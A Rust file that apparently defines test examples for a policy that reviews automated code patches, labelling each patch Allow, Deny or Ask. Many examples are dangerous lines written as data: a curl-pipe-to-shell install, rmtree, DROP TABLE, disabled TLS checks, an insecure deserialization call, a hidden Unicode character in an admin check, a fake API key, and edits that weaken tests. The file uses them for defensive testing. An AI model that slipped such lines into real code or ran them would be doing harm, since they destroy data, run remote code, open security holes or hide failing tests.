//! What this policy promises; the host asks all of it when it loads the module.

use selfheal_policy_sdk::{
    Example, Expectation, PatchFile, Question, example, example_with, facts,
};

fn one(path: &str, removed: &[&str], added: &[&str]) -> Vec<PatchFile> {
    vec![facts::file(path, removed, added)]
}

fn many(count: usize) -> Vec<PatchFile> {
    (0..count)
        .map(|n| facts::file(&format!("src/m{n}.py"), &["a = 1"], &["a = 2"]))
        .collect()
}

fn long(lines: usize) -> Vec<PatchFile> {
    let text: Vec<String> = (0..lines).map(|n| format!("x{n} = {n}")).collect();
    let lines: Vec<&str> = text.iter().map(String::as_str).collect();
    one("src/long.py", &[], &lines)
}

fn test_edit() -> Vec<PatchFile> {
    let mut files = one(
        "tests/test_a.py",
        &["assert f() == 3"],
        &["assert f() == 4"],
    );
    for file in &mut files {
        file.test = true;
    }
    files
}

fn binary() -> Question {
    let mut patch = facts::patch_of(one("logo.png", &[], &["x"]));
    patch.diff = "diff --git a/logo.png b/logo.png\nGIT binary patch\nliteral 3\n".into();
    Question::Patch(patch)
}

fn link() -> Question {
    let mut patch = facts::patch_of(one("data", &[], &["/etc/passwd"]));
    patch.diff = "diff --git a/data b/data\nnew file mode 120000\n+/etc/passwd\n".into();
    Question::Patch(patch)
}

/// Path, added line, and what becomes of it. Every rule about operations has one,
/// and a twin beside it that does no harm.
const OPERATIONS: [(&str, &str, Expectation); 42] = [
    (
        "a.js",
        "require('child_process').exec(x)",
        Expectation::Deny,
    ),
    ("a.go", "exec.Command(name).Run()", Expectation::Deny),
    ("a.py", "session.exec(statement)", Expectation::Allow),
    ("a.py", "value = eval(text)", Expectation::Deny),
    ("a.py", "value = ast.literal_eval(text)", Expectation::Allow),
    ("a.js", "const found = /x/.exec(text);", Expectation::Allow),
    ("a.py", "state = pickle.loads(body)", Expectation::Deny),
    ("a.py", "state = json.loads(body)", Expectation::Allow),
    (
        "A.java",
        "return new ObjectInputStream(in).readObject();",
        Expectation::Deny,
    ),
    ("a.py", "shutil.rmtree(path)", Expectation::Deny),
    ("a.py", "self.items.remove(item)", Expectation::Allow),
    ("a.sql", "DROP TABLE users;", Expectation::Deny),
    ("a.py", "db.execute('DELETE FROM users')", Expectation::Deny),
    (
        "a.py",
        "db.execute('DELETE FROM users WHERE id = ?', (i,))",
        Expectation::Allow,
    ),
    ("a.py", "requests.get(url, verify=False)", Expectation::Deny),
    (
        "a.py",
        "requests.get(url, verify=bundle)",
        Expectation::Allow,
    ),
    (
        "a.go",
        "config := &tls.Config{InsecureSkipVerify: true}",
        Expectation::Deny,
    ),
    (
        "a.rb",
        "skip_before_action :authenticate_user!",
        Expectation::Deny,
    ),
    (
        "a.rb",
        "before_action :authenticate_user!",
        Expectation::Allow,
    ),
    ("a.py", "@csrf_exempt", Expectation::Deny),
    ("a.py", "@csrf_protect", Expectation::Allow),
    ("a.py", "os.chmod(path, 0o777)", Expectation::Deny),
    ("a.py", "os.chmod(path, 0o640)", Expectation::Allow),
    (
        "a.sh",
        "curl -sSL https://example.org/x | sh",
        Expectation::Deny,
    ),
    ("deploy/app.yml", "privileged: true", Expectation::Deny),
    ("deploy/app.yml", "privileged: false", Expectation::Allow),
    ("a.py", "if user == 'admin\u{202e}':", Expectation::Deny),
    ("a.py", "name = 'Zo\u{eb}'", Expectation::Allow),
    (
        "a.py",
        "db.execute(f\"SELECT * FROM t WHERE id = {i}\")",
        Expectation::Ask,
    ),
    (
        "a.py",
        "db.execute('SELECT * FROM t WHERE id = ?', (i,))",
        Expectation::Allow,
    ),
    ("a.py", "digest = hashlib.md5(data)", Expectation::Ask),
    ("a.py", "digest = hashlib.sha256(data)", Expectation::Allow),
    ("a.js", "element.innerHTML = text;", Expectation::Ask),
    ("a.js", "element.textContent = text;", Expectation::Allow),
    ("a.py", "app.run(debug=True)", Expectation::Ask),
    ("a.py", "app.run(debug=settings.debug)", Expectation::Allow),
    ("a.py", "app.run(host='0.0.0.0')", Expectation::Ask),
    ("a.py", "app.run(host='127.0.0.1')", Expectation::Allow),
    ("a.py", "run(x)  # nosec", Expectation::Ask),
    ("a.rs", "let x = unsafe { *pointer };", Expectation::Ask),
    ("a.rs", "let x = items.first();", Expectation::Allow),
    (
        "docs/a.md",
        "Never call eval() or rm -rf.",
        Expectation::Allow,
    ),
];

/// Path, removed line, added line, and what becomes of it.
const WEAKENED: [(&str, &str, &str, Expectation); 12] = [
    ("tests/test_a.py", "def test_sum():", "", Expectation::Ask),
    ("tests/test_a.py", "", "@pytest.mark.skip", Expectation::Ask),
    (
        "tests/test_a.py",
        "    assert f() == 3",
        "",
        Expectation::Ask,
    ),
    (
        "tests/test_a.py",
        "    assert f() == 3",
        "    assert f()",
        Expectation::Ask,
    ),
    (
        "tests/test_a.py",
        "    assert f() == 3",
        "    assert f() >= 3",
        Expectation::Ask,
    ),
    (
        "tests/test_a.py",
        "    assert f() == 3",
        "    assert True",
        Expectation::Ask,
    ),
    ("src/lib.rs", "", "#[ignore]", Expectation::Ask),
    ("tests/__snapshots__/a.snap", "3", "4", Expectation::Ask),
    (
        ".coveragerc",
        "fail_under = 90",
        "fail_under = 50",
        Expectation::Ask,
    ),
    (
        "ci/test.sh",
        "pytest -q",
        "pytest -q || true",
        Expectation::Ask,
    ),
    (
        "jest.config.js",
        "bail: true",
        "bail: false",
        Expectation::Ask,
    ),
    (
        "src/queue.py",
        "queue.skip(1)",
        "queue.skip(2)",
        Expectation::Allow,
    ),
];

fn of_tables() -> Vec<Example> {
    let lines = |line: &'static str| -> Vec<&'static str> {
        Some(line)
            .filter(|line| !line.is_empty())
            .into_iter()
            .collect()
    };
    let operations = OPERATIONS.into_iter().map(|(path, line, expect)| {
        let name = format!("{path}: {line}");
        let patch = facts::patch(one(path, &[], &[line]));
        example(&name, facts::context(), patch, expect)
    });
    let weakened = WEAKENED.into_iter().map(|(path, removed, added, expect)| {
        let mut files = one(path, &lines(removed), &lines(added));
        for file in &mut files {
            file.test = path.starts_with("tests/");
        }
        let name = format!("{path}: {removed:?} becomes {added:?}");
        example(&name, facts::context(), facts::patch(files), expect)
    });
    operations.chain(weakened).collect()
}

pub(crate) fn all() -> Vec<Example> {
    let context = facts::context;
    let long_line = format!("x = '{}'", "a".repeat(1_000));
    let secret = ["API_KEY = '", "q8Zx71LwPq9RtVbN3c", "'"].concat();
    let mut all = vec![
        example(
            "a fix in one line",
            context(),
            facts::patch(one("src/a.py", &["return a - b"], &["return a + b"])),
            Expectation::Allow,
        ),
        example(
            "a guard",
            context(),
            facts::patch(one("web/a.js", &[], &["if (!user) return null;"])),
            Expectation::Allow,
        ),
        example(
            "five files",
            context(),
            facts::patch(many(5)),
            Expectation::Allow,
        ),
        example(
            "a dangerous line that only moves",
            context(),
            facts::patch(one(
                "a.py",
                &["  os.system(x)"],
                &["    os.system(x)", "y = 1"],
            )),
            Expectation::Allow,
        ),
        example(
            "six files",
            context(),
            facts::patch(many(6)),
            Expectation::Deny,
        ),
        example(
            "201 lines",
            context(),
            facts::patch(long(201)),
            Expectation::Deny,
        ),
        example(
            "nothing at all",
            context(),
            facts::patch(Vec::new()),
            Expectation::Deny,
        ),
        example(
            "a secret",
            context(),
            facts::patch(one("a.py", &[], &[&secret])),
            Expectation::Deny,
        ),
        example(
            "eval",
            context(),
            facts::patch(one("a.py", &["int(x)"], &["eval(x)"])),
            Expectation::Deny,
        ),
        example(
            "a shell",
            context(),
            facts::patch(one("a.py", &[], &["subprocess.run(x, shell=True)"])),
            Expectation::Deny,
        ),
        example(
            "another program from JavaScript",
            context(),
            facts::patch(one("a.js", &[], &["require('child_process').exec(x)"])),
            Expectation::Deny,
        ),
        example(
            "rmtree",
            context(),
            facts::patch(one("a.py", &[], &["shutil.rmtree(p)"])),
            Expectation::Deny,
        ),
        example(
            "drop table",
            context(),
            facts::patch(one("a.sql", &[], &["DROP TABLE users;"])),
            Expectation::Deny,
        ),
        example(
            "delete everything",
            context(),
            facts::patch(one("a.py", &[], &["db.execute('DELETE FROM users')"])),
            Expectation::Deny,
        ),
        example(
            "delete one row",
            context(),
            facts::patch(one(
                "a.py",
                &[],
                &["db.execute('DELETE FROM users WHERE id = ?', (i,))"],
            )),
            Expectation::Allow,
        ),
        example(
            "a new dependency",
            context(),
            facts::patch(one("requirements.txt", &[], &["left-pad==1"])),
            Expectation::Deny,
        ),
        example(
            "a new script in package.json",
            context(),
            facts::patch(one("web/package.json", &[], &["\"postinstall\": \"x\""])),
            Expectation::Deny,
        ),
        example(
            "a workflow",
            context(),
            facts::patch(one(".github/workflows/ci.yml", &["a"], &["b"])),
            Expectation::Deny,
        ),
        example(
            "tests edited",
            context(),
            facts::patch(test_edit()),
            Expectation::Ask,
        ),
        example(
            "a dangerous line that was there, changed",
            context(),
            facts::patch(one("a.py", &["eval(x)"], &["eval(x.strip())"])),
            Expectation::Ask,
        ),
        example(
            "a line that nobody reads",
            context(),
            facts::patch(one("a.py", &[], &[&long_line])),
            Expectation::Ask,
        ),
        example("binary content", context(), binary(), Expectation::Deny),
        example("a symbolic link", context(), link(), Expectation::Deny),
    ];
    all.extend(of_tables());
    for (settings, name, files, expect) in [
        (
            r#"{"allowed_rules": ["patch.debug-on"]}"#,
            "a rule that does not count here",
            one("a.py", &[], &["app.run(debug=True)"]),
            Expectation::Allow,
        ),
        (
            r#"{"secret_exempt_paths": ["samples/**"]}"#,
            "made-up secrets in fixtures",
            one("samples/a.py", &[], &[&secret]),
            Expectation::Allow,
        ),
        (
            r#"{"test_weakening": "deny"}"#,
            "weakened tests are denied where that is set",
            one("src/lib.rs", &[], &["#[ignore]"]),
            Expectation::Deny,
        ),
    ] {
        all.push(example_with(
            settings,
            name,
            context(),
            facts::patch(files),
            expect,
        ));
    }
    let settings = r#"{"max_files": 2, "max_changed_lines": 10, "allowed_paths": ["src/**"], "dependencies": "ask", "dangerous_operations": "ask", "tests": "deny"}"#;
    for (name, files, expect) in [
        ("inside the allowed paths", many(2), Expectation::Allow),
        ("more files than set", many(3), Expectation::Deny),
        ("more lines than set", long(11), Expectation::Deny),
        (
            "outside the allowed paths",
            one("web/a.js", &["a"], &["b"]),
            Expectation::Deny,
        ),
        (
            "dependencies are asked",
            one("src/requirements.txt", &[], &["a==1"]),
            Expectation::Ask,
        ),
        (
            "danger is asked",
            one("src/a.py", &[], &["eval(x)"]),
            Expectation::Ask,
        ),
    ] {
        all.push(example_with(
            settings,
            name,
            context(),
            facts::patch(files),
            expect,
        ));
    }
    all
}
